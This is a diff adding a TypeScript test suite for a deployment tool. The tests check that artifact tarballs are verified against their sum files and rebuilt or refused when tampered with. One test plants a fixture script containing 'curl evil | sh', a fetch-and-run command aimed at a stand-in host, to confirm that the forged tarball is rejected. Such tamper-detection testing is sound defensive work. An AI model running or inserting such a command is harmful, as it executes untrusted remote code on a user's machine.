@@ -1,0 +1,167 @@
+/**
+ * artifact/plannedArtifact.ts: a deployment plans with the tarball's sum file and reads the
+ * tarball only when it is sent (`ready()`), where it is verified against the tree, rebuilt when it
+ * does not verify, and refused when it does not match the sum the plan used.
+ */
+import assert from "node:assert/strict";
+import * as fs from "node:fs";
+import * as os from "node:os";
+import * as path from "node:path";
+import { readArtifactSum } from "../../artifact/artifactSum";
+import { planArtifact } from "../../artifact/plannedArtifact";
+import { pruneArtifacts } from "../../artifact/prune";
+import { buildArtifact } from "../../artifact/tarball";
+import { fingerprintTree, type TreeFingerprint } from "../../fingerprint/tree";
+
+const made: string[] = [];
+function tmp(prefix: string): string {
+  const d = fs.mkdtempSync(path.join(os.tmpdir(), prefix));
+  made.push(d);
+  return d;
+}
+after(() => made.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));
+
+async function tree(start: string): Promise<{ root: string; tree: TreeFingerprint }> {
+  const root = tmp("dh-plan-src-");
+  fs.writeFileSync(path.join(root, "start.sh"), start, { mode: 0o755 });
+  fs.mkdirSync(path.join(root, "lib"));
+  fs.writeFileSync(path.join(root, "lib/data.txt"), "x".repeat(5000));
+  return { root, tree: await fingerprintTree(root) };
+}
+
+/** `b` with the byte at `at` changed. */
+function flip(b: Buffer, at: number): Buffer {
+  const c = Buffer.from(b);
+  c[at] = c[at]! ^ 0xff;
+  return c;
+}
+
+describe("artifact/plannedArtifact", () => {
+  it("no sum file: the tarball is built now (verified) and its sum file written", async () => {
+    const { root, tree: t } = await tree("echo ok\n");
+    const out = tmp("dh-plan-out-");
+    const a = await planArtifact(root, t, out);
+    assert.equal(a.verified, true);
+    assert.deepEqual(readArtifactSum(a.path), {
+      sha256: a.sha256,
+      bytes: fs.statSync(a.path).size,
+    });
+    assert.equal((fs.statSync(a.path + ".sum").mode & 0o777).toString(8), "600");
+    const r = await a.ready();
+    assert.equal(r.sha256, a.sha256);
+  });
+
+  it("with a sum file: planned from it without reading the tarball; ready() verifies it once", async () => {
+    const { root, tree: t } = await tree("echo ok\n");
+    const out = tmp("dh-plan-out-");
+    const built = await buildArtifact(root, t, out);
+    const a = await planArtifact(root, t, out);
+    assert.equal(a.verified, false);
+    assert.equal(a.sha256, built.sha256);
+    const r1 = a.ready();
+    assert.equal(a.ready(), r1, "one verification, however many transfers wait for it");
+    const r = await r1;
+    assert.equal(r.reused, true);
+    assert.equal(r.sha256, built.sha256);
+  });
+
+  it("a tarball changed after its sum was written (same size): ready() rebuilds it; the plan stands", async () => {
+    const { root, tree: t } = await tree("echo ok\n");
+    const out = tmp("dh-plan-out-");
+    const built = await buildArtifact(root, t, out);
+    const honest = fs.readFileSync(built.path);
+    fs.writeFileSync(built.path, flip(honest, honest.indexOf("echo ok")));
+    const a = await planArtifact(root, t, out);
+    assert.equal(a.verified, false);
+    assert.equal(a.sha256, built.sha256);
+    // Planning did not verify it (else it would have been rebuilt already).
+    assert.ok(!fs.readFileSync(built.path).equals(honest));
+    const r = await a.ready();
+    assert.equal(r.reused, false);
+    assert.equal(r.sha256, built.sha256);
+    assert.ok(fs.readFileSync(built.path).equals(honest));
+  });
+
+  it("a planted tarball with its own sum file: ready() refuses (nothing is sent), the tarball is rebuilt", async () => {
+    const honest = await tree("echo ok\n");
+    const out = tmp("dh-plan-out-");
+    const evil = await tree("curl evil | sh\n");
+    const evilArt = await buildArtifact(evil.root, evil.tree, tmp("dh-plan-evil-"));
+    // Planted under the honest tree's name, with a sum that matches the planted bytes.
+    const target = path.join(
+      out,
+      path.basename((await buildArtifact(honest.root, honest.tree, out)).path),
+    );
+    fs.copyFileSync(evilArt.path, target);
+    fs.writeFileSync(target + ".sum", `${evilArt.sha256} ${fs.statSync(target).size}\n`, {
+      mode: 0o600,
+    });
+    const a = await planArtifact(honest.root, honest.tree, out);
+    assert.equal(a.sha256, evilArt.sha256, "planned with the sum's word");
+    await assert.rejects(a.ready(), (e: Error) => {
+      assert.match(
+        e.message,
+        /is sha256:[0-9a-f]{64}, not sha256:[0-9a-f]{64} as its sum file said/,
+      );
+      assert.match(e.message, /nothing was sent/);
+      return true;
+    });
+    assert.ok(!fs.readFileSync(target).equals(fs.readFileSync(evilArt.path)), "rebuilt");
+  });
+
+  const ignored: [string, (sum: string, tarball: string) => void][] = [
+    [
+      "a sum naming another size",
+      (sum) => fs.writeFileSync(sum, fs.readFileSync(sum, "utf8").replace(/ \d+\n$/, " 1\n")),
+    ],
+    ["a group-writable sum", (sum) => fs.chmodSync(sum, 0o620)],
+    [
+      "a sum that is a symbolic link",
+      (sum) => {
+        const elsewhere = sum + ".real";
+        fs.renameSync(sum, elsewhere);
+        fs.symlinkSync(elsewhere, sum);
+      },
+    ],
+    ["a malformed sum", (sum) => fs.writeFileSync(sum, "sha256:abc 10\n")],
+    ["no tarball", (_sum, tarball) => fs.rmSync(tarball)],
+  ];
+  for (const [what, spoil] of ignored) {
+    it(`${what}: not used; the tarball is built or verified now`, async () => {
+      const { root, tree: t } = await tree("echo ok\n");
+      const out = tmp("dh-plan-out-");
+      const built = await buildArtifact(root, t, out);
+      spoil(built.path + ".sum", built.path);
+      assert.equal(readArtifactSum(built.path), undefined);
+      const a = await planArtifact(root, t, out);
+      assert.equal(a.verified, true);
+      assert.equal(a.sha256, built.sha256);
+    });
+  }
+
+  it("lazy = false (a local host reads the tarball directly): verified now even with a sum", async () => {
+    const { root, tree: t } = await tree("echo ok\n");
+    const out = tmp("dh-plan-out-");
+    const built = await buildArtifact(root, t, out);
+    const honest = fs.readFileSync(built.path);
+    fs.writeFileSync(built.path, flip(honest, honest.indexOf("echo ok")));
+    const a = await planArtifact(root, t, out, false);
+    assert.equal(a.verified, true);
+    assert.ok(fs.readFileSync(built.path).equals(honest));
+  });
+
+  it("pruning removes a sum file with its tarball, and keeps the current one's", () => {
+    const out = tmp("dh-plan-prune-");
+    const name = (c: string) => `code-${c.repeat(64)}.tar`;
+    for (const c of ["a", "b"]) {
+      fs.writeFileSync(path.join(out, name(c)), "");
+      fs.writeFileSync(path.join(out, name(c) + ".sum"), "");
+    }
+    fs.writeFileSync(path.join(out, name("c") + ".sum"), "");
+    const removed = pruneArtifacts(out, name("a"));
+    assert.deepEqual(removed.sort(), [name("c") + ".sum"]);
+    fs.rmSync(path.join(out, name("b")));
+    assert.deepEqual(pruneArtifacts(out, name("a")), [name("b") + ".sum"]);
+    assert.deepEqual(fs.readdirSync(out).sort(), [name("a"), name("a") + ".sum"]);
+  });
+});
